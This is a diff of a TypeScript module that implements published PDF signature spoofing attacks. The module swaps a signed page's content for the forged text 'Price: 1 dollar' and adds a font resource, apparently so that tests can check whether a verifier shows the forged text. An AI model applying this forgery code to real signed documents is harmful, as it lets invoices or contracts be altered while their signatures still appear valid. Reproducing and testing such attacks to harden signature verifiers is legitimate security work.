@@ -4,7 +4,7 @@ import { appended, appendedBody, nextNumber, numberWith, objectOf, rootOf } from
 
 /**
  * Universal signature forgery, incremental saving and signature wrapping, of V. Mladenov, C. Mainka, K. Meyer zu
- * Selhausen, M. Grothe, J. Schwenk: "1 Trillion Dollar Refund: How To Spoof PDF Signatures", ACM CCS 2019.
+ * Selhausen, M. Grothe, J. Schwenk: "1 Trillion Dollar Refund – How To Spoof PDF Signatures", ACM CCS 2019.
  */
 export type Attack = (pdf: Buffer) => Buffer | Promise<Buffer>;
 
@@ -13,13 +13,17 @@ const seal = (pdf: Buffer) => numberWith(pdf, '/ByteRange [0 ');
 
 /** Another text in place of what the page shows. */
 function otherPage(pdf: Buffer): Record<number, string> {
-  const content = 'BT /F1 24 Tf 72 700 Td (Price: 1 dollar) Tj ET';
   const number = nextNumber(pdf);
   return {
-    [page(pdf)]: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${number} 0 R >>`,
-    [number]: `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+    [page(pdf)]: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${font} /Contents ${number} 0 R >>`,
+    [number]: `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
   };
 }
+
+/** What the attacks want to be read. */
+export const wanted = 'Price: 1 dollar';
+export const words = `BT /F1 24 Tf 72 700 Td (${wanted}) Tj ET`;
+export const font = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>';
 
 const range = /\/ByteRange \[[^\]]*\]/;
 const contents = /\/Contents <[0-9A-F]+>/;
